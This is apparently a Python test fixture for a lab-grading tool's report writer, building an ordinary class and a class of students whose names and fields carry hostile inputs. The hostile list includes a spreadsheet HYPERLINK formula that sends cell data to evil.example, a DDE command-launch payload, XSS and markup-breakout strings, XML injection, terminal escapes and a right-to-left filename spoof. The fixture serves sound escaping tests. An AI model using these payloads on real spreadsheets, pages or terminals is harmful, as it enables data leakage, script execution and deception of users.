"""Results to write reports from: an ordinary class, and one in which everybody is up to something."""

import pathlib
import sys

sys.dont_write_bytecode = True
sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[2] / "tools" / "grade"))

from model import Check, Lab, Student  # noqa: E402


def held(name="greeting", points=2):
    return Check(name, "greets the server", "held", points, points)


QUOTE = 'frame 31, C→S:  "See you there.\\n.\\n"\n                          ^ bare LF'


def failed(name="end-of-data", points=2, got=QUOTE, **more):
    return Check(
        name,
        "the message ends with a dot on a line of its own",
        "failed",
        points,
        0,
        **{
            "run": "dots",
            "expected": "CR LF . CR LF after the message",
            "got": got,
            "notes": ["the program crashed (signal 11)"],
            "capture": "build/run/03-smtp-send/dots/capture.pcapng",
            "filter": "frame.number == 31",
            "why": "RFC 5321 §4.1.1.4",
            "code": "labs/03-smtp-send/smtp_send.c: smtp_data (TODO 3)",
            "hint": "A line ends with CR LF.",
            **more,
        },
    )


def skipped(name="stuffing", points=1, needs="greeting"):
    return Check(name, "puts a dot in front of each line that begins with one", "skipped", points, 0, needs=needs)


def lab(number=3, checks=(), **more):
    name = {1: "01-raw-socket", 2: "02-line-protocol", 3: "03-smtp-send"}[number]
    return Lab(number, name, "A letter over SMTP", sum(check.points for check in checks), list(checks), **more)


UNBUILT = "does not build: smtp_send.c:12:3: error: expected ‘;’"


def ordinary():
    """Five hand-ins: whole, partly right, does not build, damaged, and with no lab at all."""
    return [
        Student("Ayşe Öztürk", [lab(1, [held()]), lab(3, [held(), held("quit", 1)])], seconds=12.25),
        Student(
            "bob",
            [lab(1, [held()]), lab(3, [held(), failed(), skipped()], drawing="03-smtp-send.html")],
            ["left out labs/03-smtp-send/lab.ini: only .c files may change"],
            seconds=20.0,
        ),
        Student("carol", [lab(1, [held()]), Lab(3, "03-smtp-send", "A letter over SMTP", 5, [], UNBUILT)]),
        Student("dave", [], problem="the archive is damaged"),
        Student("erin"),
    ]


# What students might call themselves, or make their programs say.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "-2+3",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</pre></details></style><h1>100 of 100",
    "]]></failure><testcase name='free'/>",
    "&lt;b&gt; &amp; &#0;",
    "comma, \"quote\", 'apostrophe'; semicolon",
    "two\nlines\r\nand\ttabs",
    "\x1b[2J\x1b]0;title\x07 bell, \x00 nul, \x7f delete, \x9b31m",
    "\u202egnp.exe\u2066",
    "no UTF-8: \udcff\udc80",
    "\ufffe\uffff\ud800",
    "a very long one: " + "x" * 20_000,
    "…",
    "-",
    "   ",
]


def hostile():
    """A student for each of these, who has it everywhere."""
    students = []
    for number, words in enumerate(HOSTILE):
        name = words.replace("/", "∕").replace("\0", "").replace("\ud800", "")[:60]  # what a folder can be called
        everywhere = dict.fromkeys(("expected", "filter", "why", "code", "hint", "run", "capture"), words)
        check = failed(words, got=f"{words}\n   ^", notes=[words], **everywhere)
        check.says = words
        bad = lab(3, [held(words), check, skipped(words, needs=words)], drawing=f"{name}.html")
        bad.title = words
        worse = Lab(2, "02-line-protocol", words, 7, [], problem=words)
        students.append(Student(f"{number} {name}", [worse, bad], [words], problem=words if number % 2 else None))
    # Names at whose beginning a spreadsheet looks.
    students += [Student(name, [lab(1, [held()])]) for name in ("=1+1", "@x", "+1", "-1", "'quoted")]
    return students
